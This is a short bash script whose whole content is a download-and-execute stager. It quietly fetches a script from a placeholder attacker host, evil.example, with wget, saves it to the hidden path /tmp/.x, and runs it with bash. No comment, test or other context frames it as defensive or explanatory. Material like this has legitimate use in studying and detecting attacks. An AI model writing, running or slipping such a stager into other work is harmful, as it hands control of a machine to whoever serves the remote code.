#!/bin/bash
U=http://evil.example/x.sh
F=/tmp/.x
wget -q "$U" -O "$F"
bash "$F"
